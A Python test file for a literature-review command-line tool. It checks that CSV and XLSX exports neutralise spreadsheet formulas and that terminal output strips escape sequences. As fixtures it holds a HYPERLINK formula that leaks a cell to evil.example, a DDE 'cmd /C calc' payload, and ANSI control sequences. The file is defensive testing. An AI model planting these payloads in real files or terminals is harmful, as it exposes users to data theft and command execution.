"""Cells a spreadsheet would run as formulas are neutralised in every CSV and XLSX the tool writes
(OWASP "CSV Injection": cells starting with = + - @ tab or carriage return)."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from reviewtool.cli import app
from reviewtool.csvfiles import spreadsheet_safe

runner = CliRunner()

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        # numbers stay numbers for pandas and R
        ("-0.52", "-0.52"),
        ("+3", "+3"),
        ("-1e-05", "-1e-05"),
        ("-.5", "-.5"),
        (-0.52, -0.52),
        (7, 7),
        (None, None),
        # only the first character matters
        ("a=b", "a=b"),
        ("MELD", "MELD"),
        ("", ""),
    ],
)
def test_spreadsheet_safe(cell: Any, written: Any) -> None:
    assert spreadsheet_safe(cell) == written


def _ris(path: Path, title: str) -> Path:
    path.write_text(
        f"TY  - JOUR\nTI  - {title}\nAU  - Doe, J\nPY  - 2020\nDO  - 10.1000/x1\nER  - \n",
        encoding="utf-8",
    )
    return path


def test_records_list_csv_neutralises_a_formula_title(review_url: str, tmp_path: Path) -> None:
    db = review_url.removeprefix("sqlite:///")
    assert runner.invoke(app, ["init", "--db", db, "--title", "T", "--as", "alice"]).exit_code == 0
    ris = _ris(tmp_path / "evil.ris", HYPERLINK)
    imported = runner.invoke(
        app, ["import", str(ris), "--source", "Test", "--db", db, "--as", "alice"]
    )
    assert imported.exit_code == 0, imported.output
    listed = runner.invoke(app, ["records", "list", "--db", db, "--as", "alice", "-f", "csv"])
    assert listed.exit_code == 0, listed.output
    rows = list(csv.DictReader(io.StringIO(listed.stdout)))
    assert rows[0]["title"] == "'" + HYPERLINK
    # JSON is for programs, not spreadsheets: the title comes out as imported
    as_json = runner.invoke(app, ["records", "list", "--db", db, "--as", "alice", "-f", "json"])
    assert HYPERLINK.replace('"', '\\"') in as_json.stdout


def test_analysis_csv_and_xlsx_neutralise_a_formula_study_name(
    fresh_review: Any, tmp_path: Path
) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    from reviewtool.analysis.service import export_run, run_analysis

    data = tmp_path / "outcomes.csv"
    data.write_text(
        "study,outcome,time_point,mean_exp,sd_exp,n_exp,mean_con,sd_con,n_con\n"
        f'"{HYPERLINK.replace(chr(34), chr(34) * 2)}",MELD,4 weeks,17.0,4.0,38,19.0,4.5,36\n'
        "B 2012,MELD,4 weeks,18.0,5.0,28,19.0,5.0,30\n",
        encoding="utf-8",
    )
    with fresh_review.transaction() as session:
        run = run_analysis(session, actor="bob", data_path=data, name="main")
    with fresh_review.reading() as session:
        export_run(session, run.id, tmp_path / "out", ["csv", "xlsx"], plots=False)
    cells = [
        cell
        for path in (tmp_path / "out").glob("*.csv")
        for row in csv.reader(path.open(encoding="utf-8"))
        for cell in row
    ]
    assert "'" + HYPERLINK in cells and HYPERLINK not in cells
    wb = openpyxl.load_workbook(tmp_path / "out" / "analysis.xlsx")
    values = [c.value for ws in wb for row in ws.iter_rows() for c in row]
    assert "'" + HYPERLINK in values
    assert not any(isinstance(v, str) and v.startswith("=") for v in values)
    # negative effect sizes stay numbers
    assert any(isinstance(v, float) and v < 0 for v in values)


ESCAPES = "Stem cells\x1b]0;owned\x07 in ACLF\x1b[2J\r\x9b31m [/bold] [link=http://evil.example]here[/link]"


def test_terminal_output_prints_no_control_characters_and_no_markup(
    review_url: str, tmp_path: Path
) -> None:
    """A title holding ESC ]0;… BEL (retitle the window), ESC [2J (clear the screen), CR, a C1
    CSI and rich markup is printed as plain text by every table and message."""
    db = review_url.removeprefix("sqlite:///")
    title = f"Review {ESCAPES}"
    made = runner.invoke(app, ["init", "--db", db, "--title", title, "--as", "alice"])
    assert made.exit_code == 0, made.output
    ris = _ris(tmp_path / "evil.ris", ESCAPES)
    imported = runner.invoke(
        app, ["import", str(ris), "--source", "T", "--db", db, "--as", "alice"]
    )
    assert imported.exit_code == 0, imported.output
    # the escapes' printable remains and the markup, as text (import turned CR into a space)
    shown = ("Stem cells]0;owned in ACLF[2J", "[/bold] [link=http://evil.example]here[/link]")
    for args in (
        ["records", "list"],
        ["records", "show", "1"],
        ["status"],
    ):
        result = runner.invoke(app, [*args, "--db", db, "--as", "alice"], env={"COLUMNS": "400"})
        assert result.exit_code == 0, (args, result.output)
        assert not any(ch in result.stdout for ch in "\x1b\x07\r\x9b"), args
        assert all(part in result.stdout for part in shown), (args, result.stdout)
    assert "\x1b" not in made.stdout and "[link=" in made.stdout


def test_tui_cards_show_no_control_characters() -> None:
    from types import SimpleNamespace

    from reviewtool.tui.dedup_review import render_record
    from reviewtool.tui.widgets.citation import citation_text, vote_text

    fields = {
        "title": ESCAPES,
        "authors": ["Doe\x1b[31m, J"],
        "abstract": "a\rb",
        "labels": ["x\x07"],
    }
    card = citation_text(fields, include=("stem",)).plain
    assert not any(ch in card for ch in "\x1b\x07\r\x9b")
    assert "Stem cells]0;owned in ACLF[2J31m" in card and "Doe[31m, J" in card
    vote = SimpleNamespace(reviewer="bob", decision="exclude", reason="r\x1b", note="n\x9b")
    assert vote_text(vote).plain == "bob: exclude (r) · note: n"
    side = render_record({"record_id": 1, "title": ESCAPES}, {"record_id": 2, "title": "x"}).plain
    assert "\x1b" not in side and "Stem cells" in side
